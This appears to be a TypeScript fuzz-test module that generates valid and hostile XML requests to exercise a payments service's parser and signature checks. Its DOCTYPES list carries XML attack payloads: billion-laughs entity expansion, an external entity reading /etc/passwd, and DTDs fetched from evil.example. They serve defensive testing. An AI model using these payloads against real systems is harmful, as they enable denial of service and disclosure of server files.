import { compactUtc } from '@kassa-payments/domain';
import { signXmlDocument, subscriptionSignature, xmlRequestSignature } from '@kassa-payments/protocol';
import fc from 'fast-check';
import { cardNumber, type FuzzBody } from './bodies.js';
import { FUZZ_PARTNER, FUZZ_SUBSCRIPTION_PROJECTS } from './kassa-process.js';

/** An XML 2.9 document the fuzzer sends, with the signature in it (which no log line may carry). */
export interface XmlFuzzBody extends FuzzBody {
  readonly signatures: readonly string[];
}

const nowUtc = () => `${new Date().toISOString().slice(0, 19)}Z`;
const phone = (msisdn: string) => `<MobilePhoneCustomer><MSISDN>${msisdn}</MSISDN></MobilePhoneCustomer>`;
const msisdn = fc.stringMatching(/^79[0-9]{9}$/);
const id = fc.oneof(fc.uuid(), fc.constantFrom('x', '', '00000000-0000-0000-0000-000000000000'));

/** The operation element's content, right for the operation (ProjectID apart). */
const operationBody: fc.Arbitrary<[string, string]> = fc.oneof(
  msisdn.map((m): [string, string] => ['CheckCustomerBillingSupport', phone(m)]),
  fc
    .tuple(msisdn, fc.stringMatching(/^[a-z0-9-]{1,20}$/))
    .map(([m, mc]): [string, string] => ['CreateCustomerContract', `<MerchantContractID>${mc}</MerchantContractID>${phone(m)}<ClientIP>203.0.113.7</ClientIP>`]),
  fc
    .tuple(id, fc.constantFrom('1234', '0000', ''))
    .map(([c, pin]): [string, string] => ['AuthorizeCustomerContract', `<ContractID>${c}</ContractID><PinCode>${pin}</PinCode><ClientIP>203.0.113.7</ClientIP>`]),
  id.map((c): [string, string] => ['CancelCustomerContract', `<ContractID>${c}</ContractID>`]),
  // The spec's shapes alone (no ClientIP, nothing it does not name): accepted on any project.
  fc.tuple(fc.uuid(), fc.constantFrom('1234', '0000')).map(([c, pin]): [string, string] => ['AuthorizeCustomerContract', `<ContractID>${c}</ContractID><PinCode>${pin}</PinCode>`]),
  fc.tuple(msisdn, fc.stringMatching(/^[A-Za-z0-9-]{1,30}$/)).map(([m, o]): [string, string] => ['CreateInvoice', `<MerchantOrderID>${o}</MerchantOrderID>${phone(m)}`]),
  fc
    .tuple(msisdn, fc.stringMatching(/^[A-Za-z0-9-]{1,30}$/), fc.constantFrom('10.00', '0.01', '25.50'))
    .map(([m, o, amount]): [string, string] => [
      'CreateInvoice',
      `<MerchantOrderID>${o}</MerchantOrderID><Price><Amount>${amount}</Amount><Currency>RUB</Currency></Price>${phone(m)}<ClientIP>203.0.113.7</ClientIP>`,
    ]),
  fc
    .tuple(cardNumber, fc.stringMatching(/^[A-Za-z0-9-]{1,30}$/))
    .map(([pan, o]): [string, string] => [
      'CreateInvoice',
      `<MerchantOrderID>${o}</MerchantOrderID><BankCardCustomer><Source>s</Source><MerchantCustomerID>c</MerchantCustomerID><Country>RU</Country><BankCard><PAN>${pan}</PAN><ExpirationMonth>12</ExpirationMonth><ExpirationYear>2030</ExpirationYear><SecurityCode>123</SecurityCode></BankCard></BankCardCustomer><ClientIP>203.0.113.7</ClientIP>`,
    ]),
  fc
    .tuple(fc.constantFrom('AuthorizeInvoice', 'CancelInvoice', 'GetInvoice', 'RefundInvoice'), id)
    .map(([op, i]): [string, string] => [op, `<InvoiceID>${i}</InvoiceID><PinCode>1234</PinCode><ClientIP>203.0.113.7</ClientIP>`]),
  fc.stringMatching(/^[A-Za-z0-9-]{0,30}$/).map((o): [string, string] => ['GetInvoiceByMerchantOrderId', `<MerchantOrderID>${o}</MerchantOrderID>`]),
);

const cardsIn = (text: string) => [...text.matchAll(/<PAN>(\d+)<\/PAN>/g)].map((m) => m[1] as string);

/**
 * How a document is signed: rightly (after any mutation, so that the mutation reaches the parser),
 * with a wrong signature, with a stale time, or replayed (the signature of the document before the
 * mutation: a captured request's header on another, which must be refused).
 */
type Auth = 'right' | 'bad-signature' | 'stale' | 'replayed';
const AUTH = fc.constantFrom<Auth>('right', 'right', 'right', 'bad-signature', 'stale', 'replayed');

/** A document before signing (its Signature element empty), how it is to be signed, and whether its signature covers it (not the spec's v1 subscription formula). */
type Unsigned = { readonly text: string; readonly auth: Auth; readonly sign: (digest: string) => string; readonly coversDocument: boolean };

const EMPTY_SIGNATURE = '<Signature></Signature>';
const fill = (text: string, signature: string) => text.replace(EMPTY_SIGNATURE, `<Signature>${signature}</Signature>`);

/** The document to send: `mutated` (from `d.text`) signed as `d.auth` says; one whose empty Signature the mutation removed goes as it is. */
function signed(d: Unsigned, mutated: string): { readonly text: string; readonly signature?: string } {
  if (!mutated.includes(EMPTY_SIGNATURE)) return { text: mutated };
  if (d.auth === 'bad-signature') return { text: fill(mutated, 'cd'.repeat(32)), signature: 'cd'.repeat(32) };
  const from = d.auth === 'replayed' && mutated !== d.text ? d.text : mutated;
  const signature = /<Signature>([0-9a-f]{64})<\/Signature>/.exec(signXmlDocument(from, d.sign))?.[1] ?? '';
  return { text: fill(mutated, signature), signature };
}

/** An XML 2.9 document for the fuzz partner, unsigned. */
const document: fc.Arbitrary<Unsigned> = fc.tuple(operationBody, fc.constantFrom('1', '2'), AUTH).map(([[op, body], project, auth]) => {
  const now = auth === 'stale' ? '2020-01-01T00:00:00Z' : nowUtc();
  const text = `<?xml version="1.0" encoding="utf-8"?><Request><Header><Authentication><Login>${FUZZ_PARTNER.login}</Login><NowUtc>${now}</NowUtc>${EMPTY_SIGNATURE}</Authentication></Header><${op}Request><ProjectID>${project}</ProjectID>${body}</${op}Request></Request>`;
  return { text, auth, sign: (digest: string) => xmlRequestSignature(FUZZ_PARTNER.password, FUZZ_PARTNER.login, now, digest), coversDocument: true };
});

/** A body kind's suffix when its signature cannot hold: such a document must never be carried out. */
export const UNAUTHENTIC = ':unauthentic';

function body(kind: string, text: string, d?: Unsigned): XmlFuzzBody {
  const sent = d ? signed(d, text) : { text };
  // A replay under v1 (the spec's subscription formula) is what v1 admits: only a covering signature must refuse it.
  const unauthentic = d !== undefined && sent.signature !== undefined && (d.auth === 'bad-signature' || (d.auth === 'replayed' && text !== d.text && d.coversDocument));
  return { kind: unauthentic ? `${kind}${UNAUTHENTIC}` : kind, content: sent.text, cardNumbers: cardsIn(sent.text), signatures: sent.signature ? [sent.signature] : [] };
}

/** Right documents, and documents with one element's text replaced by a hostile value. */
const nearlyRight = (documents: fc.Arbitrary<Unsigned>): fc.Arbitrary<XmlFuzzBody> =>
  fc.oneof(
    { weight: 3, arbitrary: documents.map((d) => body('xml-right', d.text, d)) },
    {
      weight: 2,
      arbitrary: fc
        .tuple(documents, fc.oneof(fc.string({ maxLength: 30 }), fc.constantFrom('&amp;', '&lt;x&gt;', ']]>', '-1', '99999999999999999999', '\u202e', '\u0000')))
        .map(([d, v]) =>
          body(
            'xml-one-value-wrong',
            d.text.replace(
              /<(ProjectID|MSISDN|ContractID|InvoiceID|PinCode|Amount|MerchantOrderID|SubscriptionProjectID|Subscriber_MSISDN|SubscriptionID|BillingPeriodSeconds|MaxIterations|BillingOperationID)>[^<]*</,
              `<$1>${v.replace(/[<&]/g, '')}<`,
            ),
            d,
          ),
        ),
    },
  );
export const nearlyRightXml = nearlyRight(document);

const DOCTYPES = [
  '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>',
  '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
  '<!DOCTYPE r SYSTEM "http://evil.example/r.dtd">',
  '<!DOCTYPE r PUBLIC "-//X//Y" "http://evil.example/r.dtd">',
  '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]>',
  '<!doctype Request>',
  '<!DOCTYPE Request [<!ELEMENT Request ANY><!ATTLIST Request a CDATA "x">]>',
];

/** Mutations of a signed document: the cases of the issue, and bytes. */
const hostile = (document: fc.Arbitrary<Unsigned>): fc.Arbitrary<XmlFuzzBody> =>
  fc.oneof(
    document.chain((d) => fc.nat(d.text.length).map((cut) => body('xml-truncated', d.text.slice(0, cut), d))),
    document.map((d) => body('xml-wrong-nesting', d.text.replace('</Authentication></Header>', '</Header></Authentication>').replace(/<Now>([^<]*)<\/Now>/, '<Now><x>$1</Now></x>'), d)),
    document.map((d) => body('xml-repeated', d.text.replace(/(<(?:Subscription)?ProjectID>[^<]*<\/(?:Subscription)?ProjectID>)/, '$1$1'), d)),
    document.map((d) => body('xml-two-operations', d.text.replace('</Request>', '<GetInvoiceRequest><ProjectID>1</ProjectID></GetInvoiceRequest><SubscriptionID>x</SubscriptionID></Request>'), d)),
    fc.tuple(document, fc.integer({ min: 1_000, max: 80_000 })).map(([d, n]) => body('xml-huge-text', d.text.replace('</Request>', `<Description>${'x'.repeat(n)}</Description></Request>`), d)),
    fc.tuple(document, fc.string({ unit: 'binary', maxLength: 60 })).map(([d, s]) => body('xml-unicode', d.text.replace(/<MerchantOrderID>[^<]*/, `<MerchantOrderID>${s.replace(/[<&]/g, '')}`), d)),
    document.map((d) => body('xml-cdata-comments-pi', d.text.replace('<Request>', '<Request><!-- c --><?pi x?>').replace(/<(Subscription)?ProjectID>([^<]*)</, '<$1ProjectID><![CDATA[$2]]><'), d)),
    fc.tuple(document, fc.constantFrom(...DOCTYPES)).map(([d, dt]) => body('xml-doctype', d.text.replace('<Request>', `${dt}<Request>`), d)),
    // A stranger's login or project id, signed with the fuzz partner's key: never authenticated, and the directory's caches stay bounded.
    fc.tuple(document, fc.stringMatching(/^[A-Za-z0-9._-]{1,120}$/), fc.integer({ min: 3, max: 2_000_000_000 })).map(([d, login, project]) =>
      body('xml-stranger', d.text.replace(/<Login>[^<]*<\/Login>/, `<Login>${login}</Login>`).replace(/<SubscriptionProjectID>[^<]*</, `<SubscriptionProjectID>${project}<`), {
        ...d,
        auth: 'bad-signature',
      }),
    ),
    fc.integer({ min: 17, max: 3_000 }).map((n) => body('xml-deep', `<Request>${'<a>'.repeat(n)}${'</a>'.repeat(n)}</Request>`)),
    fc.string({ maxLength: 200 }).map((s) => body('xml-text', s)),
    fc.uint8Array({ maxLength: 300 }).map((bytes): XmlFuzzBody => ({ kind: 'xml-bytes', content: Buffer.from(bytes), cardNumbers: [], signatures: [] })),
  );
export const hostileXml = hostile(document);

/** The Content-Types an XML request comes with: mostly right. */
export const xmlContentType = fc.oneof(
  { weight: 6, arbitrary: fc.constantFrom('text/xml; charset=utf-8', 'application/xml', 'text/xml') },
  { weight: 1, arbitrary: fc.constantFrom('application/json', 'text/plain', 'text/xml; charset=utf-16', '', 'TEXT/XML') },
);

const subscriber = fc.oneof(
  msisdn.map((m) => `<Subscriber_MSISDN>${m}</Subscriber_MSISDN>`),
  fc.uuid().map((s) => `<SubscriptionID>${s}</SubscriptionID>`),
  fc.stringMatching(/^[a-z0-9-]{1,20}$/).map((c) => `<SubscriberID>${c}</SubscriberID>`),
);
const testInfo = fc
  .record(
    {
      period: fc.constantFrom('1', '60', '0', '86401', 'x'),
      max: fc.constantFrom('1', '3', '100', '101'),
      result: fc.constantFrom('Success', 'Failed', 'Maybe'),
      amount: fc.constantFrom('10.00', '0.01', '10'),
      // A test clock: unknown (a well-formed id), malformed, or out of the id's shape.
      clock: fc.oneof(fc.uuid(), fc.constantFrom('clock', '', 'x'.repeat(300))),
    },
    { requiredKeys: [] },
  )
  .map(
    (t) =>
      `<TestInfo>${t.period ? `<BillingPeriodSeconds>${t.period}</BillingPeriodSeconds>` : ''}${t.max ? `<MaxIterations>${t.max}</MaxIterations>` : ''}${t.result ? `<ExpectedBillingResult>${t.result}</ExpectedBillingResult>` : ''}${t.amount ? `<BillingAmount>${t.amount}</BillingAmount>` : ''}${t.clock !== undefined ? `<TestClockID>${t.clock}</TestClockID>` : ''}</TestInfo>`,
  );

/** Each method's elements, right for the method. */
const SUBSCRIPTION_ELEMENTS: Readonly<Record<string, fc.Arbitrary<string>>> = {
  CreateSubscription: fc.oneof(
    fc.tuple(msisdn, fc.option(testInfo)).map(([m, ti]) => `<Subscriber_MSISDN>${m}</Subscriber_MSISDN>${ti ?? ''}`),
    fc.stringMatching(/^[a-z0-9-]{1,20}$/).map((c) => `<CustomerType>Card</CustomerType><CustomerId>${c}</CustomerId>`),
    fc.ipV4().map((ip) => `<ClientIP>${ip}</ClientIP>`),
  ),
  ApproveSubscription: fc.tuple(fc.uuid(), fc.constantFrom('1234', '0000', '')).map(([s, pin]) => `<SubscriptionID>${s}</SubscriptionID><PinCode>${pin}</PinCode>`),
  ResendPinCode: fc.uuid().map((s) => `<SubscriptionID>${s}</SubscriptionID>`),
  GetSubscriptionStatus: subscriber,
  CancelSubscription: subscriber,
  GetSubscriptions: fc.option(subscriber).map((s) => s ?? ''),
  RefundBillingOperation: fc.oneof(fc.uuid(), fc.constantFrom('x', '')).map((id) => `<BillingOperationID>${id}</BillingOperationID>`),
};

/** A signed subscription-service document of `method` (sometimes a wrong signature or a stale Now). */
const subscriptionDocument = (method: string): fc.Arbitrary<Unsigned> =>
  fc.tuple(SUBSCRIPTION_ELEMENTS[method] ?? fc.constant(''), AUTH, fc.constantFrom(...FUZZ_SUBSCRIPTION_PROJECTS)).map(([elements, auth, project]) => {
    const now = auth === 'stale' ? '20200101000000' : compactUtc(new Date().toISOString());
    return {
      text: `<?xml version="1.0" encoding="utf-8"?><Request><SubscriptionProjectID>${project.id}</SubscriptionProjectID><Now>${now}</Now>${EMPTY_SIGNATURE}${elements}</Request>`,
      auth,
      sign: (digest: string) => subscriptionSignature(project.signature, FUZZ_PARTNER.subscriptionSecret, project.id, now, digest),
      coversDocument: project.signature === 'v2',
    };
  });

/** The subscription service's documents for `method`: right ones, one value wrong, and every mutation of the XML 2.9 service's. */
export const nearlyRightSubscriptionXml = (method: string) => nearlyRight(subscriptionDocument(method));
export const hostileSubscriptionXml = (method: string) => hostile(subscriptionDocument(method));
